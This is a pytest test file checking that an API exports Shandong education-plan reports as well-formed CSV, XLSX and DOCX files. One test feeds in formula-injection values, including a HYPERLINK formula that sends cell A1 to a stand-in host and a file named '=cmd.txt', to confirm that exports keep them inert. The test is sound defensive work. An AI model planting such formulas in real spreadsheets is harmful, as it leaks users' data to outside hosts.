"""Answers as files: what offices open, edit and hand in."""

import csv
import hashlib
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from httpx import Response
from sqlalchemy import update

from app import pagination
from app.db import Database
from app.documents.writers import restored
from app.models import Cascade, CascadeRevision, Judging, Link, LinkVersion, PlanVersion
from tests.factories import ADMIN, Backend, settings_for

SHANDONG = "/api/v1/plans/370000-edu-2020"
LISTS = [
    f"{SHANDONG}/gaps",
    f"{SHANDONG}/coverage",
    f"{SHANDONG}/coverage/371300-edu-2020",
    f"{SHANDONG}/breakdown",
    "/api/v1/links?upper=370000-edu-2020",
]
PAPERS = LISTS[:-1]
TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
}
FILES = [(address, form) for address in LISTS for form in TYPES if form != "docx" or address in PAPERS]


def fetch(client: TestClient, address: str, form: str, **headers: str) -> Response:
    answer = client.get(f"{address}{'&' if '?' in address else '?'}format={form}", headers=headers)
    assert answer.status_code == 200, answer.text
    return answer


def book(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def table(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(("address", "form"), FILES)
def test_every_answer_is_a_file_with_a_chinese_name_and_always_the_same_bytes(
    seeded_client: TestClient, address: str, form: str
) -> None:
    first, again = (fetch(seeded_client, address, form) for _ in range(2))
    assert first.headers["content-type"] == TYPES[form]
    kind, _, name = first.headers["content-disposition"].partition("; filename*=UTF-8''")
    assert kind == "attachment"
    assert unquote(name).endswith(f".{form}")
    assert "370000-edu-2020" in name
    assert any("\u4e00" <= sign <= "\u9fff" for sign in unquote(name))
    assert not set(unquote(name)) & set('/\\:*?"<>|')
    assert first.headers["vary"] == "Accept, Accept-Language, Cookie"
    assert first.content == again.content


@pytest.mark.parametrize("address", LISTS)
def test_every_sheet_is_ready_to_work_with(seeded_client: TestClient, address: str) -> None:
    data = fetch(seeded_client, address, "xlsx").content
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        for name in parts.namelist():
            assert not name.startswith("xl/worksheets/") or b"<f" not in parts.read(name), name
    opened = book(data)
    assert opened.sheetnames[-1] == "说明"
    for page in opened.worksheets:
        assert page.freeze_panes is not None, page.title
        assert page.auto_filter.ref, page.title
        assert page.print_title_rows, page.title
        assert page.page_setup.orientation == "landscape"
        heading = int(page.freeze_panes[1:]) - 1
        assert all(cell.value for cell in page[heading]), page.title
        assert page.max_row > heading, page.title


def test_gaps_as_files_hold_all_of_them(seeded_client: TestClient) -> None:
    listed = seeded_client.get(f"{SHANDONG}/gaps", params={"limit": 500}).json()["items"]
    for params in ({"format": "csv", "limit": 1}, {"format": "csv", "limit": 500}):
        rows = table(seeded_client.get(f"{SHANDONG}/gaps", params=params).content)
        assert [row[rows[0].index("缺口编号")] for row in rows[1:]] == [gap["id"] for gap in listed]
    page = book(fetch(seeded_client, f"{SHANDONG}/gaps", "xlsx").content)["缺口清单"]
    shown = [[cell.value for cell in row] for row in page.iter_rows(min_row=3, max_row=2 + len(listed))]
    assert [row[-1] for row in shown] == [gap["id"] for gap in listed]
    assert [row[5] for row in shown] == [gap["score"] for gap in listed]
    assert [row[7] for row in shown] == [gap["upper_text"] for gap in listed]
    assert page.cell(4 + len(listed), 1).value == f"共 {len(listed)} 项"


def test_gaps_as_files_are_filtered_like_the_list(seeded_client: TestClient) -> None:
    wanted = {"adcode": "371300", "kind": "missing", "format": "csv"}
    rows = table(seeded_client.get(f"{SHANDONG}/gaps", params=wanted).content)[1:]
    assert {(row[1], row[3]) for row in rows} == {("临沂市", "未见承接")}


def test_the_matrix_says_for_each_task_what_it_says_for_the_item(seeded_client: TestClient) -> None:
    matrix = seeded_client.get(f"{SHANDONG}/coverage").json()
    opened = book(fetch(seeded_client, f"{SHANDONG}/coverage", "xlsx").content)
    names = [city["name"] for city in matrix["cities"]]
    linyi = names.index("临沂市")
    page = opened["承接矩阵"]
    assert [cell.value for cell in page[2]][3:] == names
    for row, item in zip(page.iter_rows(min_row=3), matrix["items"], strict=False):
        cell = item["cells"][linyi]
        assert row[0].value == item["number"]
        if cell["verdict"] == "partial":
            assert row[3 + linyi].value == f"部分承接\n{cell['full']}｜{cell['partial']}｜{cell['none']}△"
    tasks = [[cell.value for cell in row] for row in opened["任务明细"].iter_rows(min_row=3)]
    counted = [row[3 + linyi] for row in tasks if row[2] == "市级"]
    cells = [item["cells"][linyi] for item in matrix["items"]]
    found = {word: counted.count(word) for word in ("全部", "部分承接", "无")}
    assert found == {
        "全部": sum(cell["full"] for cell in cells),
        "部分承接": sum(cell["partial"] for cell in cells),
        "无": sum(cell["none"] for cell in cells),
    }
    totals = {row[0].value: [cell.value for cell in row] for row in opened["分市统计"].iter_rows(min_row=3)}
    assert totals["临沂市"][5:] == list(found.values())
    assert totals["济南市"][5:] == [None, None, None]
    assert opened["指标合计"].cell(3, 1).value == matrix["rollups"][0]["task"].rpartition("/")[2]


def test_a_pair_has_a_row_for_every_task(seeded_client: TestClient) -> None:
    address = f"{SHANDONG}/coverage/371300-edu-2020"
    pair = seeded_client.get(address).json()
    rows = table(fetch(seeded_client, address, "csv").content)
    expected = [task["id"].rpartition("/")[2] for item in pair["items"] for task in item["tasks"]]
    assert [row[4] for row in rows[1:] if row[4]] == expected
    best = {task["id"].rpartition("/")[2]: task["evidence"] for item in pair["items"] for task in item["tasks"]}
    for row in rows[1:]:
        assert [line.partition(" ")[2] for line in row[11].splitlines()] == [e["text"] for e in best.get(row[4], [])]


def test_links_are_exported_with_both_texts(seeded_client: TestClient) -> None:
    query = {"upper": "370000-edu-2020/8", "limit": 500}
    listed = {link["id"]: link for link in seeded_client.get("/api/v1/links", params=query).json()["items"]}
    rows = table(seeded_client.get("/api/v1/links", params={**query, "format": "csv"}).content)
    assert {row[-1] for row in rows[1:]} == set(listed)
    for row in rows[1:]:
        link = listed[row[-1]]
        assert row[1:5] == [
            link["upper"],
            link["evidence"]["upper"]["text"],
            link["lower"],
            link["evidence"]["lower"]["text"],
        ]


def test_the_key_says_what_the_verdicts_rest_on(seeded_client: TestClient) -> None:
    rows = book(fetch(seeded_client, f"{SHANDONG}/gaps", "xlsx").content)["说明"].iter_rows(min_row=2, values_only=True)
    known = {str(row[1]): str(row[2]) for row in rows}
    assert "鲁教办发〔2020〕1号；第 1 版" in known["370000-edu-2020"]
    assert "承接关系：已确认 0 条" in known["371300-edu-2020"]
    assert known["济南市"] == "济南市：无要点"
    assert known["未见承接"].startswith("在该市要点中没有找到")


def test_english_on_request(seeded_client: TestClient) -> None:
    answer = fetch(seeded_client, f"{SHANDONG}/gaps", "csv", **{"accept-language": "en"})
    assert table(answer.content)[0][:5] == ["No.", "Jurisdiction", "Adcode", "Kind", "Severity"]
    assert table(answer.content)[1][3] == "no plan"
    assert "gaps-370000-edu-2020.csv" in answer.headers["content-disposition"]
    for address in LISTS:
        pages = book(fetch(seeded_client, address, "xlsx", **{"accept-language": "en"}).content).sheetnames
        assert pages[-1] == ("Key" if "breakdown" not in address else "说明")


@pytest.mark.parametrize(
    ("accept", "expected"),
    [
        ("text/csv", "text/csv; charset=utf-8"),
        (TYPES["xlsx"], TYPES["xlsx"]),
        ("application/json;q=0.5, text/csv", "text/csv; charset=utf-8"),
        ("application/json, text/csv;q=0.9", "application/json"),
        ("text/csv;q=0, */*", "application/json"),
        ("text/html,application/xhtml+xml,*/*;q=0.8", "application/json"),
        ("image/png", "application/json"),
        ("text/csv;q=nonsense", "application/json"),
        ("", "application/json"),
    ],
)
def test_accept_may_choose(seeded_client: TestClient, accept: str, expected: str) -> None:
    answer = seeded_client.get(f"{SHANDONG}/breakdown", headers={"accept": accept})
    assert (answer.status_code, answer.headers["content-type"]) == (200, expected)
    assert answer.headers["vary"] == "Accept, Accept-Language, Cookie"
    asked = seeded_client.get(f"{SHANDONG}/breakdown", params={"format": "json"}, headers={"accept": accept})
    assert asked.headers["content-type"] == "application/json"


@pytest.mark.parametrize("address", LISTS)
def test_unknown_formats_are_named(seeded_client: TestClient, address: str) -> None:
    answer = seeded_client.get(f"{address}{'&' if '?' in address else '?'}format=pdf")
    assert answer.status_code == 422
    assert [error["pointer"] for error in answer.json()["errors"]] == ["/query/format"]
    assert "xlsx" in answer.json()["errors"][0]["detail"]


def test_too_many_rows_are_no_file(seeded_client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pagination, "MAX_FILE_ROWS", 10)
    for address in (LISTS[0], LISTS[-1]):
        answer = seeded_client.get(f"{address}{'&' if '?' in address else '?'}format=csv")
        assert (answer.status_code, answer.json()["type"]) == (422, "/problems/file-too-large")
        assert "10 行" in answer.json()["detail"]


def test_formulas_in_a_document_stay_text(own_seeded_client: TestClient) -> None:
    payload = '=HYPERLINK("http://a.example/"&A1,"点此")'
    text = f"临沂市教育局2021年工作要点\n一、@SUM(1)抓落实\n1.改善办学条件。{payload}。年底前建设学校10所。\n（1）+1+1建设食堂。\n"
    imported = own_seeded_client.post("/api/v1/plans", files={"file": ("=cmd.txt", text.encode())})
    assert imported.status_code == 201, imported.text
    address = f"/api/v1/plans/{imported.json()['plan']}/breakdown"
    for row in table(fetch(own_seeded_client, address, "csv").content):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    whole = fetch(own_seeded_client, address, "xlsx").content
    cells = [cell for row in book(whole)["任务分解表"].iter_rows() for cell in row if isinstance(cell.value, str)]
    held = [cell for cell in cells if str(cell.value).startswith("=")]
    assert [cell.value for cell in held] == [f"{payload}。年底前建设学校10所。"]
    assert (held[0].data_type, held[0].quotePrefix) == ("s", True)


def test_the_description_names_every_content_type(app: FastAPI) -> None:
    paths = app.openapi()["paths"]
    for address in ("gaps", "coverage", "coverage/{lower_plan}", "breakdown"):
        operation = paths[f"/api/v1/plans/{{plan}}/{address}"]["get"]
        assert set(operation["responses"]["200"]["content"]) == {
            "application/json",
            "text/csv",
            TYPES["xlsx"],
            TYPES["docx"],
        }
        asked = next(parameter for parameter in operation["parameters"] if parameter["name"] == "format")
        assert "xlsx" in str(asked["schema"]) or "xlsx" in str(app.openapi()["components"]["schemas"]["ReportFormat"])
    links = paths["/api/v1/links"]["get"]["responses"]["200"]["content"]
    assert set(links) == {"application/json", "text/csv", TYPES["xlsx"]}


SEEN: dict[tuple[str, str], str] = {}  # what the other database gave


@pytest.mark.parametrize(("address", "form"), FILES)
def test_both_databases_give_the_same_bytes(steady_client: TestClient, address: str, form: str) -> None:
    digest = hashlib.sha256(fetch(steady_client, address, form).content).hexdigest()
    assert SEEN.setdefault((address, form), digest) == digest


@pytest.fixture(scope="module")
def steady_client(backend: Backend, seeded_url: str) -> Iterator[TestClient]:
    """Over a seeded store in which everything was judged at one moment, whenever the tests run."""
    from app.main import create_app  # noqa: PLC0415 - as heavy as in the shared fixtures

    url = backend.copy(seeded_url)
    moment = datetime(2026, 11, 23, 8, tzinfo=UTC)
    database = Database(settings_for(url))
    # Not a write of the service's, so not one that its audit could record.
    with database.engine.begin() as connection:
        connection.execute(update(Judging).values(since=moment))
        connection.execute(update(Link).values(proposed_at=moment))
        connection.execute(update(LinkVersion).values(proposed_at=moment, since=moment))
        connection.execute(update(Cascade).values(changed_at=moment))
        connection.execute(update(CascadeRevision).values(at=moment))
        connection.execute(update(PlanVersion).values(since=moment))
    database.close()
    with TestClient(create_app(settings_for(url)), headers=ADMIN) as made:
        yield made
    backend.drop(url)


def test_csv_can_be_restored(seeded_client: TestClient) -> None:
    plan = seeded_client.get(f"{SHANDONG}/breakdown").json()
    rows = table(fetch(seeded_client, f"{SHANDONG}/breakdown", "csv").content)
    heading = next(number for number, row in enumerate(rows) if row[:1] == ["序号"])
    cells = [[restored(cell) for cell in row] for row in rows[heading + 1 :]]
    items = [row for row in cells if row[0]]
    assert [row[0] for row in items] == [str(item["number"]) for item in plan["items"]]
    for row, item in zip(items, plan["items"], strict=True):
        assert f"{row[2]}。{row[3]}" == f"{item['label']}{item['text']}"
    assert Path(unquote(fetch(seeded_client, f"{SHANDONG}/breakdown", "csv").headers["content-disposition"])).suffix
